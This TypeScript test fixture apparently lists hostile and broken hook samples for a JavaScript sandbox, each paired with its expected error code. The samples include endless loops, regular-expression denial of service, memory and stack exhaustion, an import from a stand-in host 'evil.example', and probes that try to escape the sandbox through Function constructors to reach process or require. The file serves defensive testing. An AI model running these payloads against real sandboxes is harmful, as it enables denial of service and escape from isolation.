/** What a hostile, or broken, `hooks.js` tries, and how its call ends. Every entry exports a hook named `f`. */
export interface Attack {
  title: string
  code: string
  /** Code of the failure. */
  ends: string | RegExp
}

const attack = (ends: Attack['ends']) => (entries: Record<string, string>) =>
  Object.entries(entries).map(([title, code]): Attack => ({ title, code, ends }))

/** Uses up what it was given. */
const GREEDY: Attack[] = [
  ...attack('E_HOOK_TIME')({
    'loops for ever': 'export function f() { for (;;); }',
    'loops for ever while it is loaded': 'for (;;); export function f() {}',
    'loops in a generator': 'export function* f() { for (;;); }',
    'loops in a catch block that it entered by looping':
      'export function f() { for (;;) try { for (;;); } catch { continue } finally { for (;;); } }',
    'loops in a getter of its answer': 'export const f = () => [{ get a() { for (;;); } }]',
    'loops in toJSON': 'export const f = () => ({ toJSON() { for (;;); } })',
    'loops in the words of its error': 'export function f() { throw { get name() { for (;;); } } }',
    'loops in a proxy': 'export const f = () => new Proxy([], { get() { for (;;); } })',
    'loops in a comparison': 'export const f = () => [3, 2, 1].sort(() => { for (;;); })',
    'backtracks in a regular expression':
      'export const f = () => [{ a: /^(a+)+$/.test("a".repeat(60) + "b") }]',
    'backtracks over nested alternatives':
      'export const f = () => [{ a: /^(([a-z])+.)+[A-Z]([a-z])+$/.test("a".repeat(60)) }]',
    'loops in an iterator that never ends':
      'export const f = () => [...{ *[Symbol.iterator]() { for (;;) yield; } }.valueOf()].length < [...(function* () { for (;;) yield 1; })()]',
    'loops in valueOf': 'export const f = () => [{ a: 1 + { valueOf() { for (;;); } } }]',
  }),
  ...attack('E_HOOK_MEMORY')({
    'holds one huge buffer': 'export const f = () => [new Uint8Array(1 << 30)]',
    'answers a table of its own making': 'export const f = () => [new Uint8Array(20 << 20)]',
    'pads a text': 'export const f = () => [{ a: "x".padEnd(1 << 29) }]',
  }),
  // Which of both budgets ends first depends on the machine.
  ...attack(/^E_HOOK_(MEMORY|TIME)$/)({
    'holds many strings':
      'export function f() { const a = []; for (;;) a.push("x".repeat(1e6) + a.length); }',
    'copies a list onto itself': 'export function f() { let a = [1]; for (;;) a = [...a, ...a]; }',
    'copies texts in turns that are few and long':
      'export function f() { for (;;) "x".repeat(1e6).replaceAll("x", "y"); }',
    'floods with promises':
      'export function f() { for (let i = 0; i < 1e7; i++) Promise.resolve(i).then(() => f()); return []; }',
  }),
  ...attack('E_HOOK_STACK')({
    'calls itself': 'export function f(i) { return f(i) + 1; }',
    'calls itself in toString':
      'export const f = () => { const a = { toString: () => `${a}` }; return [{ a: `${a}` }]; }',
    'answers something nested without end':
      'export function f() { let a = {}; for (let i = 0; i < 2e5; i++) a = { a }; return [a]; }',
  }),
  ...attack('E_HOOK_SIZE')({
    'answers too much':
      'export const f = () => Array.from({ length: 10 }, () => ({ a: "x".repeat(1e6) }))',
    'asks for a call of many megabytes':
      'export function* f() { yield { call: { post: "/x", body: "x".repeat(9e6) } }; }',
  }),
  ...attack('E_HOOK_EFFECTS')({
    'asks for calls without end':
      'export function* f() { for (;;) yield { call: { get: "/x" } }; }',
    'asks for calls from a hand-made iterator':
      'export const f = () => ({ next: () => ({ done: false, value: { call: { get: "/x" } } }) })',
  }),
]

/** Answers what is no list of records. */
const WRONG: Attack[] = [
  ...attack('E_HOOK_ANSWER')({
    'answers nothing': 'export function f() {}',
    'answers null': 'export const f = () => null',
    'answers an object': 'export const f = () => ({ records: [] })',
    'answers a text that looks like a list': 'export const f = () => "[{}]"',
    'answers a list of lists': 'export const f = () => [[1]]',
    'answers a list with nothing in it': 'export const f = () => [null]',
    'answers a function': 'export const f = () => [{ a: () => 1 }]',
    'answers a symbol': 'export const f = () => [{ a: Symbol("a") }]',
    'answers a number without end': 'export const f = () => [{ a: 1n }]',
    'answers a quotient by zero': 'export const f = () => [{ a: 1 / 0 }]',
    'answers what is no number': 'export const f = () => [{ a: 0 / 0 }]',
    'answers a circle': 'const a = {}; a.a = a; export const f = () => [a]',
    'answers a promise': 'export async function f() { return []; }',
    'answers later': 'export async function* f() { yield 1; }',
    'answers nothing by toJSON': 'export const f = () => ({ toJSON() {} })',
  }),
  ...attack('E_HOOK_THREW')({
    'throws': 'export function f() { throw new Error("no"); }',
    'throws a proxy': 'export function f() { throw new Proxy({}, { get() { throw 1; } }); }',
    'rolls dice': 'export const f = () => [{ a: Math.random() }]',
    'evaluates code that is broken': 'export const f = () => eval("(")',
  }),
  ...attack('E_HOOK_LOAD')({
    'imports a module of Node': 'import fs from "node:fs"; export const f = () => [fs]',
    'imports from an address':
      'import a from "https://evil.example/a.js"; export const f = () => [a]',
    'is no program': 'export function f(',
    'throws while it is loaded': 'throw new Error("no"); export function f() {}',
    'reaches for a process that is not there': 'process.exit(); export function f() {}',
  }),
  ...attack('E_HOOK_NAME')({
    'exports no hook': 'export const g = 1',
    'exports a value of that name': 'export const f = 1',
    'waits while it is loaded': 'await new Promise(() => {}); export function f() {}',
  }),
]

export const ATTACKS: Attack[] = [...GREEDY, ...WRONG]

/** Looks for a way out. Each answers what it found, which has to be nothing. */
export const ESCAPES: Record<string, string> = {
  'through the constructor of a function':
    'export const f = () => [{ a: (() => {}).constructor("return typeof process + typeof require")() }]',
  'through the constructor of what it was handed':
    'export const f = (i) => [{ a: i.constructor.constructor("return typeof process + typeof require")() }]',
  'through the constructor of an error':
    'export const f = () => { try { null.a } catch (e) { return [{ a: e.constructor.constructor("return typeof process + typeof require")() }] } }',
  'through a generator function':
    'export const f = () => [{ a: [...(function* () {}).constructor("yield typeof process + typeof require")()][0] }]',
  'through the stack of an error':
    'export const f = () => { Error.prepareStackTrace = (e, s) => s; const s = new Error().stack; return [{ a: typeof s === "string" ? "undefinedundefined" : s }] }',
  'through the global object':
    'export const f = () => [{ a: typeof globalThis.process + typeof globalThis.require }]',
  'through what browsers and servers have':
    'export const f = () => [{ a: ["fetch", "XMLHttpRequest", "WebSocket", "Worker", "setTimeout", "std", "os", "scriptArgs", "WebAssembly", "Buffer", "performance"].filter((n) => n in globalThis).join() + "undefinedundefined" }]',
  'through the arguments of its caller':
    'export function f() { let a = "undefinedundefined"; try { a = f.caller ?? a } catch {} return [{ a }] }',
}
